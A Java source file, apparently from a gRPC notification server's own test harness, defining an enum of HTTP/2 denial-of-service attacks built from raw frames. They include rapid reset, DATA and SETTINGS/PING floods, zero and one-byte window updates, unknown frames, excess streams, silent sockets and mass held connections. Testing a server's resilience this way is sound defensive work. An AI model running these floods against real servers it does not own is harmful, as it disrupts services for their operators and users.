package dev.wxnotify.server.attack;

import dev.wxnotify.server.testing.RawHttp2;
import dev.wxnotify.v1.BatchSendRequest;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.Arrays;

/** What a client can do to a server without a token, within the rules of HTTP/2 or against them. */
enum Attack {
  /** Repeated DATA without content on one open stream. */
  EMPTY_DATA {
    @Override
    void begin(Strike strike) {
      byte[] frames = repeat(BURST, frame(RawHttp2.DATA, 0, 1));
      strike.onEach(FEW, RawHttp2::open, c -> flood(strike, openStream(c, CHECK, 1), frames));
    }
  },
  /** The same, with padding as its only content. */
  PADDED_DATA {
    @Override
    void begin(Strike strike) {
      byte[] frames = repeat(BURST, frame(RawHttp2.DATA, RawHttp2.PADDED, 1, (byte) 0));
      strike.onEach(FEW, RawHttp2::open, c -> flood(strike, openStream(c, CHECK, 1), frames));
    }
  },
  /** A large message, announced and then sent byte by byte, each in its own frame. */
  TINY_DATA {
    @Override
    void begin(Strike strike) {
      strike.onEach(
          16,
          RawHttp2::open,
          c -> {
            byte[] announced = ByteBuffer.allocate(5).put((byte) 0).putInt(LARGE).array();
            for (int stream = 1; strike.goesOn(); stream += 2) {
              openStream(c, SEND, stream).frame(RawHttp2.DATA, 0, stream, announced);
              byte[] frames = repeat(1_000, frame(RawHttp2.DATA, 0, stream, (byte) 0));
              for (int i = 0; i < LARGE / 1_000 - 1 && strike.goesOn(); i++) {
                c.write(frames);
              }
              c.flush();
            }
          });
    }
  },
  /** Makes the server reset streams: a window update of zero. */
  ZERO_WINDOW_UPDATE {
    @Override
    void begin(Strike strike) {
      eachStream(
          strike,
          (out, stream) -> {
            out.writeBytes(headersFrame(CHECK, 0, stream));
            out.writeBytes(frame(RawHttp2.WINDOW_UPDATE, 0, stream, new byte[4]));
          });
    }
  },
  /** Makes the server reset streams: DATA after the end. */
  DATA_AFTER_END {
    @Override
    void begin(Strike strike) {
      eachStream(
          strike,
          (out, stream) -> {
            out.writeBytes(headersFrame(WATCH, 0, stream));
            out.writeBytes(frame(RawHttp2.DATA, RawHttp2.END_STREAM, stream, new byte[5]));
            out.writeBytes(frame(RawHttp2.DATA, 0, stream, new byte[5]));
          });
    }
  },
  /** Makes the server refuse streams: more than it allows. */
  TOO_MANY_STREAMS {
    @Override
    void begin(Strike strike) {
      eachStream(strike, (out, stream) -> out.writeBytes(headersFrame(CHECK, 0, stream)));
    }
  },
  /** Calls of unknown methods. */
  UNKNOWN_PATHS {
    @Override
    void begin(Strike strike) {
      eachStream(
          strike,
          (out, stream) -> {
            out.writeBytes(headersFrame("/no/thing", 0, stream));
            out.writeBytes(frame(RawHttp2.DATA, RawHttp2.END_STREAM, stream, new byte[5]));
          });
    }
  },
  /** Calls with an invalid timeout. */
  BAD_TIMEOUT {
    @Override
    void begin(Strike strike) {
      eachStream(
          strike,
          (out, stream) ->
              out.writeBytes(
                  headersFrame(CHECK, RawHttp2.END_STREAM, stream, "grpc-timeout", "abc")));
    }
  },
  /**
   * Calls that are cancelled immediately, on connections that are closed before a limit applies.
   */
  RAPID_RESET {
    @Override
    void begin(Strike strike) {
      strike.onEach(
          FEW,
          RawHttp2::open,
          c -> {
            int stream = 1;
            for (int round = 0; round < 9 && strike.goesOn(); round++) {
              ByteArrayOutputStream out = new ByteArrayOutputStream();
              for (int i = 0; i < 1_000; i++, stream += 2) {
                out.writeBytes(headersFrame(SEND, 0, stream));
                out.writeBytes(frame(RawHttp2.RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8}));
              }
              c.write(out.toByteArray()).flush();
            }
          });
    }
  },
  /** SETTINGS that change the window of many open streams. */
  SETTINGS_WINDOWS {
    @Override
    void begin(Strike strike) {
      byte[] up = frame(RawHttp2.SETTINGS, 0, 0, new byte[] {0, 4, 0, 1, 0, 0});
      byte[] down = frame(RawHttp2.SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, 1, 0});
      byte[] frames = repeat(100, concat(up, down));
      strike.onEach(
          FEW,
          RawHttp2::open,
          c -> {
            for (int i = 0; i < 900; i++) {
              openStream(c, WATCH, 2 * i + 1);
            }
            flood(strike, c, frames);
          });
    }
  },
  /** SETTINGS and PING whose answers are not read. */
  UNREAD_ANSWERS {
    @Override
    void begin(Strike strike) {
      byte[] frames =
          repeat(
              BURST,
              concat(frame(RawHttp2.SETTINGS, 0, 0), frame(RawHttp2.PING, 0, 0, new byte[8])));
      strike.onEach(FEW, RawHttp2::open, c -> flood(strike, c, frames));
    }
  },
  /** Windows that grow by one byte. */
  WINDOW_UPDATES {
    @Override
    void begin(Strike strike) {
      byte[] frames = repeat(BURST, frame(RawHttp2.WINDOW_UPDATE, 0, 0, new byte[] {0, 0, 0, 1}));
      strike.onEach(FEW, RawHttp2::open, c -> flood(strike, c, frames));
    }
  },
  /** Frames of unknown types, and answers without a request. */
  ODD_FRAMES {
    @Override
    void begin(Strike strike) {
      byte[] frames =
          repeat(
              BURST,
              concat(
                  concat(
                      frame(200, 0, 0, new byte[8]),
                      frame(RawHttp2.PING, RawHttp2.ACK, 0, new byte[8])),
                  concat(
                      frame(RawHttp2.PRIORITY, 0, 1, new byte[5]),
                      frame(RawHttp2.RST_STREAM, 0, 1, new byte[] {0, 0, 0, 8}))));
      strike.onEach(
          FEW, RawHttp2::open, c -> flood(strike, openStream(c, CHECK, 1).cancel(1), frames));
    }
  },
  /** Many connections with large items that never end. */
  UNFINISHED_ITEMS {
    @Override
    void begin(Strike strike) {
      strike.keep(
          100,
          RawHttp2::open,
          c -> {
            for (int stream = 1; stream <= 7; stream += 2) {
              openStream(c, BATCH, stream);
              c.frame(
                  RawHttp2.DATA,
                  0,
                  stream,
                  ByteBuffer.allocate(5).put((byte) 0).putInt(250 * 1024).array());
              for (int i = 0; i < 15; i++) {
                c.frame(RawHttp2.DATA, 0, stream, new byte[16 * 1024]);
              }
            }
            c.flush();
          });
    }
  },
  /** Calls that send nothing. */
  OPEN_STREAMS {
    @Override
    void begin(Strike strike) {
      strike.keep(
          100,
          RawHttp2::open,
          c -> {
            for (int i = 0; i < 1_000; i++) {
              openStream(c, BATCH, 2 * i + 1);
            }
            c.flush();
          });
    }
  },
  /** As many connections as allowed, each with one call. */
  MANY_CONNECTIONS {
    @Override
    void begin(Strike strike) {
      strike.keep(9_000, RawHttp2::open, c -> openStream(c, BATCH, 1).flush());
    }
  },
  /** Connections that send nothing. */
  SILENT_SOCKETS {
    @Override
    void begin(Strike strike) {
      strike.keep(3_000, RawHttp2::connect, c -> {});
    }
  },
  /** Streams of invalid items whose results are not read. */
  UNREAD_RESULTS {
    @Override
    void begin(Strike strike) {
      strike.onEach(
          FEW,
          RawHttp2::openWithoutWindow,
          c -> {
            byte[] item = BatchSendRequest.getDefaultInstance().toByteArray();
            byte[] message =
                ByteBuffer.allocate(5 + item.length)
                    .put((byte) 0)
                    .putInt(item.length)
                    .put(item)
                    .array();
            byte[] messages = repeat(1_024, message);
            for (int i = 0; i < 1_000 && strike.goesOn(); i++) {
              openStream(c, BATCH, 2 * i + 1).frame(RawHttp2.DATA, 0, 2 * i + 1, messages);
            }
            c.flush();
            strike.hold();
          });
    }
  },
  /** Single calls whose answers are not read. */
  UNREAD_SINGLE_ANSWERS {
    @Override
    void begin(Strike strike) {
      byte[] check = new byte[5];
      strike.keep(
          40,
          RawHttp2::openWithoutWindow,
          c -> {
            for (int stream = 1; stream < 2_000; stream += 2) {
              openStream(c, CHECK, stream).frame(RawHttp2.DATA, RawHttp2.END_STREAM, stream, check);
            }
            c.flush();
          });
    }
  };

  static final String SEND = "/wxnotify.v1.NotificationService/SendSubscribeMessage";
  static final String BATCH = "/wxnotify.v1.NotificationService/BatchSend";
  static final String CHECK = "/grpc.health.v1.Health/Check";
  static final String WATCH = "/grpc.health.v1.Health/Watch";

  private static final int FEW = 4;
  private static final int BURST = 5_000;
  private static final int LARGE = 200 * 1024;

  /** Begins, and returns; the strike's threads run until it ends. */
  abstract void begin(Strike strike);

  private interface Call {
    void writeTo(ByteArrayOutputStream out, int stream);
  }

  /** Streams that end immediately, one after another, on a few connections. */
  private static void eachStream(Strike strike, Call call) {
    strike.onEach(
        FEW,
        RawHttp2::open,
        c -> {
          for (int stream = 1; strike.goesOn(); ) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            for (int i = 0; i < 100; i++, stream += 2) {
              call.writeTo(out, stream);
            }
            c.write(out.toByteArray()).flush();
          }
        });
  }

  private static void flood(Strike strike, RawHttp2 connection, byte[] frames) throws IOException {
    while (strike.goesOn()) {
      connection.write(frames).flush();
    }
  }

  private static RawHttp2 openStream(RawHttp2 connection, String path, int stream)
      throws IOException {
    return connection.write(headersFrame(path, 0, stream));
  }

  private static byte[] headersFrame(String path, int flags, int stream, String... more) {
    return frame(
        RawHttp2.HEADERS, RawHttp2.END_HEADERS | flags, stream, RawHttp2.headers(path, more));
  }

  private static byte[] frame(int type, int flags, int stream, byte... payload) {
    return ByteBuffer.allocate(9 + payload.length)
        .putInt(payload.length << 8 | type)
        .put((byte) flags)
        .putInt(stream)
        .put(payload)
        .array();
  }

  private static byte[] repeat(int times, byte[] bytes) {
    ByteBuffer all = ByteBuffer.allocate(times * bytes.length);
    for (int i = 0; i < times; i++) {
      all.put(bytes);
    }
    return all.array();
  }

  private static byte[] concat(byte[] one, byte[] other) {
    byte[] both = Arrays.copyOf(one, one.length + other.length);
    System.arraycopy(other, 0, both, one.length, other.length);
    return both;
  }
}
